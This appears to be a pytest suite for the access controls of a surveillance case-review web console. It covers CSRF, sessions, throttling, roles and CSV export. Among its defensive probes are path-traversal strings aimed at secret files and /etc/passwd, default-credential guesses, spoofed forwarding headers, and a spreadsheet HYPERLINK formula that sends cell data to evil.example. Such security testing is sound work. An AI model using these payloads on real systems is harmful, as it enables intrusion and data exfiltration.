"""Console access control, against the app served by a real uvicorn on a real port: every route
needs a session, every change needs the CSRF token, evidence cannot escape its folder, wrong
passwords are throttled, roles are enforced; and the case index behind it (idempotent revisions,
filters, reviews, mutes, CSV)."""

from __future__ import annotations

import csv
import io
import re
import socket
import threading
import time
from contextlib import closing

import cv2
import httpx
import jsonschema
import numpy as np
import pytest
import uvicorn

from streetscan.console.app import ConsoleSettings, create_app
from streetscan.console.index import CaseFilter, CaseIndex
from streetscan.console.server import ConsoleServer
from streetscan.console.users import MAX_FAILURES, UserError, UserStore
from streetscan.pipeline.events import event_schema

PASSWORD = "correct horse battery"


def event(i: int, state="opened", revision=0, camera="cam01", scene="out_of_store_trading") -> dict:
    eid = f"00000000-0000-4000-8000-{i:012d}"
    ev = {
        "schema_version": "3",
        "event_id": eid,
        "state": state,
        "revision": revision,
        "camera": {"id": camera, "name": f"{camera} gate", "address": "1 Test Road", "lat": 31.2, "lon": 121.4},
        "zone": {"id": "z1", "kind": "storefront", "grade": "arterial"},
        "scene_class": {
            "code": scene,
            "name_zh": "店外经营",
            "name_en": "Out-of-store trading",
            "category": "街面秩序",
        },
        "first_seen": {"stream_s": 1.0, "wall": f"2026-11-24T08:{i % 60:02d}:00+08:00"},
        "confirmed": {"stream_s": 31.0, "wall": f"2026-11-24T08:{i % 60:02d}:30+08:00"},
        "last_seen": {"stream_s": 60.0 + revision, "wall": f"2026-11-24T09:{i % 60:02d}:{revision:02d}+08:00"},
        "confidence": 0.8,
        "objects": [{"class_name": "goods", "box": [10, 10, 50, 50], "confidence": 0.8, "track_id": 3}],
        "evidence": {"clean": f"evidence/{eid}/clean.jpg", "annotated": f"evidence/{eid}/annotated.jpg"},
        "model": {"name": "m", "version": "1"},
        "pipeline_version": "0.1.0",
        "repeat_count": revision,
        "source": "test",
        "platform": {"category_code": "05", "category": "街面秩序", "code": "0504", "name": "店外经营"},
        "enforcement": {"stage": "educate", "name": "首次教育引导", "count": 1, "window_days": 30, "offender": "place"},
        "responsible": None,
        "deadline": {"rectify_s": 1800, "due": f"2026-11-24T09:{i % 60:02d}:30+08:00"},
    }
    jsonschema.validate(ev, event_schema())
    return ev


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def served(tmp_path):
    out = tmp_path / "out"
    settings = ConsoleSettings.for_output(out)
    index = CaseIndex(settings.index_path)
    events = [event(i) for i in range(3)] + [event(0, "updated", 1), event(3, camera="cam02", scene="street_laundry")]
    assert index.add_many(events) == 5
    for ev in events:
        for key in ("clean", "annotated"):
            path = out / ev["evidence"][key]
            path.parent.mkdir(parents=True, exist_ok=True)
            cv2.imwrite(str(path), np.full((48, 64, 3), 120, np.uint8))
    (out / "secret.txt").write_text("outside evidence")
    (out / "snapshots").mkdir()
    cv2.imwrite(str(out / "snapshots" / "cam01.jpg"), np.full((36, 64, 3), 90, np.uint8))
    users = UserStore(settings.users_path)
    users.add("ops", PASSWORD, "operator")
    users.add("watcher", PASSWORD, "viewer")
    port = free_port()
    server = uvicorn.Server(
        uvicorn.Config(create_app(settings, index, users), host="127.0.0.1", port=port, log_level="warning")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}", index, events
    server.should_exit = True
    thread.join(10)


def login(base: str, name="ops", password=PASSWORD) -> httpx.Client:
    client = httpx.Client(base_url=base)
    page = client.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    r = client.post("/login", data={"name": name, "password": password, "csrf": csrf})
    assert r.status_code == 303, r.text
    return client


def csrf_of(client: httpx.Client, path="/cases") -> str:
    return re.search(r'name="csrf" value="([^"]+)"', client.get(path).text).group(1)


def test_nothing_is_served_without_a_session(served):
    base, _, events = served
    eid = events[0]["event_id"]
    with httpx.Client(base_url=base) as anon:
        for path in (
            "/",
            "/cases",
            f"/cases/{eid}",
            "/cases.csv",
            "/dismissed.jsonl",
            "/cameras",
            "/cameras/cam01/zones",
            "/overview",
        ):
            r = anon.get(path)
            assert r.status_code == 303 and r.headers["location"].startswith("/login"), path
        for path in (
            "/api/cases",
            f"/evidence/{eid}/clean.jpg",
            "/cameras/cam01/snapshot.jpg",
            "/overview/per-day.svg",
            "/overview/per-camera.svg",
        ):
            assert anon.get(path).status_code == 401, path
        r = anon.post(f"/cases/{eid}/review", data={"verdict": "confirmed"})
        assert r.status_code in (303, 401, 403)
        assert anon.post("/api/cameras/cam01/zones", json={"zones": []}).status_code == 401
        assert anon.get("/static/console.css").status_code == 200  # the login page's own style only
        assert anon.get("/docs").status_code == 404 and anon.get("/openapi.json").status_code == 404


def test_session_cookie_flags_and_no_default_account(served):
    base, _, _ = served
    with httpx.Client(base_url=base) as c:
        r = c.get("/login")
        cookie = r.headers["set-cookie"].lower()
        assert "httponly" in cookie and "samesite=strict" in cookie
        csrf = re.search(r'name="csrf" value="([^"]+)"', r.text).group(1)
        for name, pw in (("admin", "admin"), ("admin", ""), ("root", "root")):
            assert c.post("/login", data={"name": name, "password": pw or "x", "csrf": csrf}).status_code == 401


def test_changes_need_the_csrf_token(served):
    base, index, events = served
    eid = events[1]["event_id"]
    with closing(login(base)) as c:
        assert c.post(f"/cases/{eid}/review", data={"verdict": "confirmed"}).status_code == 403
        assert c.post(f"/cases/{eid}/review", data={"verdict": "confirmed", "csrf": "forged"}).status_code == 403
        assert index.case(eid).verdict is None
        r = c.post(f"/cases/{eid}/review", data={"verdict": "confirmed", "csrf": csrf_of(c)})
        assert r.status_code == 303 and index.case(eid).verdict == "confirmed"
        # logging in without the token from the login page is refused too
        with httpx.Client(base_url=base) as fresh:
            fresh.get("/login")
            assert fresh.post("/login", data={"name": "ops", "password": PASSWORD}).status_code == 403


def test_evidence_cannot_escape_its_folder(served):
    base, _, events = served
    eid = events[0]["event_id"]
    with closing(login(base)) as c:
        ok = c.get(f"/evidence/{eid}/clean.jpg")
        assert ok.status_code == 200 and ok.headers["content-type"] == "image/jpeg"
        for path in (
            "/evidence/../secret.txt",
            "/evidence/%2e%2e/secret.txt",
            f"/evidence/{eid}/../../secret.txt",
            "/evidence/..%2fsecret.txt",
            "/evidence/%2fetc%2fpasswd",
        ):
            r = c.get(path)
            assert r.status_code in (404, 400) and "outside evidence" not in r.text, path


def test_camera_pictures_cannot_escape_their_folder_and_pages_forbid_framing(served):
    base, _, _ = served
    with closing(login(base)) as c:
        assert c.get("/cameras/cam01/snapshot.jpg").status_code == 200
        for path in (
            "/cameras/../secret.txt/snapshot.jpg",
            "/cameras/..%2f..%2fsecret/snapshot.jpg",
            "/cameras/nosuch/snapshot.jpg",
        ):
            assert c.get(path).status_code == 404, path
        headers = c.get("/cameras").headers
        assert "script-src 'self'" in headers["content-security-policy"] and headers["x-frame-options"] == "DENY"


def test_wrong_passwords_are_throttled(served):
    base, _, _ = served
    with httpx.Client(base_url=base) as c:
        for _ in range(MAX_FAILURES):
            csrf = csrf_of(c, "/login")
            assert c.post("/login", data={"name": "ops", "password": "wrong password", "csrf": csrf}).status_code == 401
        csrf = csrf_of(c, "/login")
        # now even the right password is refused until the window passes
        assert c.post("/login", data={"name": "ops", "password": PASSWORD, "csrf": csrf}).status_code == 429


def test_viewer_reads_but_cannot_change(served):
    base, index, events = served
    eid = events[2]["event_id"]
    with closing(login(base)) as c:  # an operator reviews cases but edits no zones
        assert c.get("/cameras/cam01/zones").status_code == 403
        r = c.post("/api/cameras/cam01/zones", json={"zones": []}, headers={"X-CSRF-Token": csrf_of(c)})
        assert r.status_code == 403
    with closing(login(base, "watcher")) as c:
        page = c.get(f"/cases/{eid}")
        assert page.status_code == 200 and 'id="dismiss"' not in page.text
        r = c.post(f"/cases/{eid}/review", data={"verdict": "dismissed", "reason": "x", "csrf": csrf_of(c)})
        assert r.status_code == 403 and index.case(eid).verdict is None
        assert c.get("/dismissed.jsonl").status_code == 403


def test_operator_filters_dismisses_mutes_and_exports(served):
    base, index, events = served
    with closing(login(base)) as c:
        page = c.get("/cases", params={"camera": "cam02"})
        assert page.text.count('class="case"') == 1 and "street_laundry" in page.text
        assert c.get("/api/cases", params={"state": "updated"}).json()["total"] == 1
        assert c.get("/cases", params={"state": "bogus"}).status_code == 422
        eid = events[1]["event_id"]
        csrf = csrf_of(c)
        assert (
            c.post(f"/cases/{eid}/review", data={"verdict": "dismissed", "reason": "", "csrf": csrf}).status_code == 422
        )
        c.post(f"/cases/{eid}/review", data={"verdict": "dismissed", "reason": "shadow, not goods", "csrf": csrf})
        assert c.get("/api/cases", params={"camera": "cam01"}).json()["total"] == 3
        c.post(f"/cases/{eid}/mute", data={"hours": "24", "reason": "construction", "csrf": csrf})
        assert index.muted("cam01", "z1", "out_of_store_trading")
        # while muted, the place/class leaves the list (kept in the index; shown on request)
        assert c.get("/api/cases", params={"camera": "cam01"}).json()["total"] == 0
        assert c.get("/api/cases", params={"camera": "cam01", "muted": "true"}).json()["total"] == 3
        assert c.get("/api/cases").json()["total"] == 1
        negatives = [line for line in c.get("/dismissed.jsonl").text.splitlines() if line]
        assert len(negatives) == 1 and "shadow, not goods" in negatives[0]
        csv_text = c.get("/cases.csv", params={"camera": "cam01", "muted": "true"}).text.splitlines()
        assert csv_text[0].startswith("event_id,state") and len(csv_text) == 1 + 3
        assert any(
            "dismissed,shadow, not goods" in line or 'dismissed,"shadow, not goods"' in line for line in csv_text
        )
        # the case page shows the newest revision and the whole timeline
        page = c.get(f"/cases/{events[0]['event_id']}").text
        assert page.count("<tr><td>") == 2 and 'id="evidence-clean"' in page
        assert "店外经营 (0504)" in page and "首次教育引导" in page  # platform code and enforcement stage


def test_index_is_idempotent_and_keeps_the_newest_revision(tmp_path):
    index = CaseIndex(tmp_path / "cases.db")
    assert index.add_many([event(7, "updated", 2), event(7, "opened", 0)]) == 2
    assert index.add_many([event(7, "opened", 0), event(7, "updated", 2)]) == 0
    case = index.case(event(7)["event_id"])
    assert case.event["revision"] == 2 and case.event["state"] == "updated"
    assert [r["revision"] for r in index.timeline(case.event_id)] == [0, 2]
    assert index.count(CaseFilter(since="2026-11-24T09:07:01+08:00")) == 1
    assert index.count(CaseFilter(until="2026-11-24T09:06:59+08:00")) == 0


def test_users_need_a_real_password_and_a_known_role(tmp_path):
    users = UserStore(tmp_path / "u.db")
    with pytest.raises(UserError, match="password"):
        users.add("a1", "short", "admin")
    with pytest.raises(UserError, match="role"):
        users.add("a1", PASSWORD, "root")
    users.add("a1", PASSWORD, "admin")
    with pytest.raises(UserError, match="exists"):
        users.add("a1", PASSWORD, "admin")
    assert "argon2id" in users._db.execute("SELECT hash FROM users").fetchone()[0]


def test_an_index_from_the_first_schema_is_migrated_in_place(tmp_path):
    import json
    import sqlite3

    path = tmp_path / "cases.db"
    db = sqlite3.connect(path)
    ev = event(5)
    db.executescript("""
      CREATE TABLE revisions (event_id TEXT NOT NULL, revision INTEGER NOT NULL, state TEXT NOT NULL,
        at TEXT NOT NULL, payload TEXT NOT NULL, PRIMARY KEY (event_id, revision));
      CREATE TABLE cases (event_id TEXT PRIMARY KEY, revision INTEGER NOT NULL, state TEXT NOT NULL,
        camera_id TEXT NOT NULL, zone_id TEXT NOT NULL, scene_code TEXT NOT NULL, first_seen TEXT NOT NULL,
        last_seen TEXT NOT NULL, confidence REAL NOT NULL, repeat_count INTEGER NOT NULL, payload TEXT NOT NULL);
      CREATE INDEX cases_last_seen ON cases (last_seen DESC);""")
    payload = json.dumps(ev)
    db.execute(
        "INSERT INTO revisions VALUES (?,?,?,?,?)", (ev["event_id"], 0, "opened", ev["last_seen"]["wall"], payload)
    )
    db.execute(
        "INSERT INTO cases VALUES (?,?,?,?,?,?,?,?,?,?,?)",
        (
            ev["event_id"],
            0,
            "opened",
            "cam01",
            "z1",
            "out_of_store_trading",
            ev["first_seen"]["wall"],
            ev["last_seen"]["wall"],
            0.8,
            0,
            payload,
        ),
    )
    db.commit()
    db.close()
    index = CaseIndex(path)
    assert index.case(ev["event_id"]).event == ev and index.count(CaseFilter(camera="cam01")) == 1
    assert index.add_many([event(5, "updated", 1)]) == 1 and index.cases()[0].event["revision"] == 1


def test_index_retention_forgets_old_resolved_unreviewed_cases_only(tmp_path):
    index = CaseIndex(tmp_path / "cases.db")
    index.add_many([event(1), event(1, "resolved", 1), event(2), event(2, "resolved", 1), event(3), event(4)])
    index.review(event(2)["event_id"], "dismissed", "a shadow", "ops")
    index.mute("cam01", "z1", "out_of_store_trading", 1, "", "ops")
    # events are seen at 09:0x+08:00 (01:0x UTC): a cutoff after them forgets case 1 only
    assert index.prune("2026-11-24T10:00:00+08:00", now=time.time() + 7200) == 1
    assert index.case(event(1)["event_id"]) is None and index.timeline(event(1)["event_id"]) == []
    assert index.case(event(2)["event_id"]).verdict == "dismissed"  # reviewed: a hard negative, kept
    assert index.case(event(3)["event_id"]) is not None  # still open
    assert not index.muted("cam01", "z1", "out_of_store_trading", now=time.time() + 7200)
    assert index.prune("2026-11-24T08:00:00+08:00") == 0


def test_a_huge_page_number_and_a_formula_in_a_reason_are_harmless(served):
    # Issue #34 item 6: page=10^20 answered 500 (SQLite's OFFSET overflowed); a dismiss reason that
    # a spreadsheet runs as a formula went raw into cases.csv.
    base, index, events = served
    with closing(login(base)) as c:
        huge = "100000000000000000000"
        assert c.get("/api/cases", params={"page": huge}).status_code == 200
        assert c.get("/cases", params={"page": huge}).status_code == 200
        eid = events[2]["event_id"]
        formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        c.post(f"/cases/{eid}/review", data={"verdict": "dismissed", "reason": formula, "csrf": csrf_of(c)})
        rows = list(csv.reader(io.StringIO(c.get("/cases.csv", params={"muted": "true"}).text)))
        reasons = [row[-1] for row in rows[1:] if row[0] == eid]
        assert reasons == ["'" + formula]
        assert not any(cell[:1] in "=+-@" for row in rows[1:] for cell in row if cell)


def test_a_session_ends_on_logout_and_on_a_new_password_whatever_copy_of_the_cookie_is_kept(served, tmp_path):
    # Issue #34 item 4: the signed cookie still worked after logout (12 h).
    base, _, _ = served
    with closing(login(base)) as c:
        stolen = dict(c.cookies)
        assert c.get("/api/cases").status_code == 200
        assert c.post("/logout", data={"csrf": csrf_of(c)}).status_code == 303
    with httpx.Client(base_url=base, cookies=stolen) as replay:
        assert replay.get("/api/cases").status_code == 401
    with closing(login(base)) as c:
        stolen = dict(c.cookies)
    # A new password (what `streetscan users passwd` does) on the store the console reads.
    UserStore(ConsoleSettings.for_output(tmp_path / "out").users_path).passwd("ops", PASSWORD + "-new")
    with httpx.Client(base_url=base, cookies=stolen) as replay:
        assert replay.get("/api/cases").status_code == 401
    with closing(login(base, password=PASSWORD + "-new")) as c:
        assert c.get("/api/cases").status_code == 200


def test_the_login_limit_holds_when_wrong_passwords_arrive_together(served):
    # 50 concurrent wrong passwords got 23 checked while the limit says 5.
    base, _, _ = served

    def attempt(_):
        with httpx.Client(base_url=base) as c:
            csrf = csrf_of(c, "/login")
            return c.post("/login", data={"name": "ops", "password": "not the password", "csrf": csrf}).status_code

    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(max_workers=50) as pool:
        codes = list(pool.map(attempt, range(50)))
    assert codes.count(401) == MAX_FAILURES and codes.count(429) == 50 - MAX_FAILURES


def test_users_are_changed_and_removed_from_the_command_line_and_their_file_is_private(tmp_path):
    import os
    import subprocess
    import sys

    out = tmp_path / "out"
    env = {**os.environ, "STREETSCAN_USER_PASSWORD": PASSWORD}

    def cli(*args):
        return subprocess.run(
            [sys.executable, "-m", "streetscan", "users", *args, "--out", str(out)],
            capture_output=True,
            text=True,
            env=env,
            timeout=60,
        )

    assert cli("add", "chief", "--role", "admin").returncode == 0
    path = ConsoleSettings.for_output(out).users_path
    assert path.stat().st_mode & 0o777 == 0o600
    store = UserStore(path)
    sid = store.open_session("chief")
    assert cli("passwd", "chief", "--password", "another-long-password").returncode == 0
    assert store.session_user(sid, 3600) is None
    assert store.login("chief", "another-long-password", "127.0.0.1") is not None
    assert cli("remove", "chief").returncode == 0 and store.get("chief") is None
    gone = cli("remove", "chief")
    assert gone.returncode == 2 and "no user 'chief'" in gone.stderr


def _console(tmp_path, **settings) -> tuple[str, ConsoleServer]:
    """The console as the daemon and `streetscan console` serve it (ConsoleServer, their options)."""
    import dataclasses

    out = tmp_path / "proxied"
    config = dataclasses.replace(ConsoleSettings.for_output(out), **settings)
    users = UserStore(config.users_path)
    users.add("ops", PASSWORD, "operator")
    server = ConsoleServer(
        create_app(config, CaseIndex(config.index_path), users), "127.0.0.1", 0, config.server_options()
    )
    server.start()
    while not server.started:
        time.sleep(0.05)
    return f"http://127.0.0.1:{server.port}", server


def _six_wrong_logins(base: str, headers: dict) -> list[int]:
    codes = []
    with httpx.Client(base_url=base) as c:
        for i in range(MAX_FAILURES + 1):  # another name each time: only the address can throttle
            csrf = csrf_of(c, "/login")
            codes.append(
                c.post(
                    "/login",
                    data={"name": f"guess{i}", "password": "wrong password", "csrf": csrf},
                    headers={**headers, "X-Forwarded-For": f"10.0.0.{i + 1}"},
                ).status_code
            )
    return codes


def test_forwarded_headers_are_believed_only_from_a_configured_proxy(tmp_path):
    # Issue #34 item 4: X-Forwarded-For was trusted from any client, so a new spoofed address per
    # try walked past the per-address limit; the Secure flag could not be turned on behind TLS.
    base, server = _console(tmp_path / "a")
    try:
        with httpx.Client(base_url=base) as c:
            r = c.post(
                "/login",
                data={"name": "ops", "password": PASSWORD, "csrf": csrf_of(c, "/login")},
                headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "10.9.9.9"},
            )
            assert r.status_code == 303 and "secure" not in r.headers["set-cookie"].lower()
        assert _six_wrong_logins(base, {})[-1] == 429  # the client's own address, whatever it claims
    finally:
        server.stop()
    base, server = _console(tmp_path / "b", trusted_proxies=("127.0.0.1",))
    try:
        with httpx.Client(base_url=base) as c:
            r = c.post(
                "/login",
                data={"name": "ops", "password": PASSWORD, "csrf": csrf_of(c, "/login")},
                headers={"X-Forwarded-Proto": "https"},
            )
            assert r.status_code == 303 and "secure" in r.headers["set-cookie"].lower()
        assert _six_wrong_logins(base, {})[-1] == 401  # the proxy's word: six different addresses
    finally:
        server.stop()
    base, server = _console(tmp_path / "c", https_only=True)
    try:
        with httpx.Client(base_url=base) as c:  # a Secure cookie is not sent back over http: look, no login
            assert "secure" in c.get("/login").headers["set-cookie"].lower()
    finally:
        server.stop()
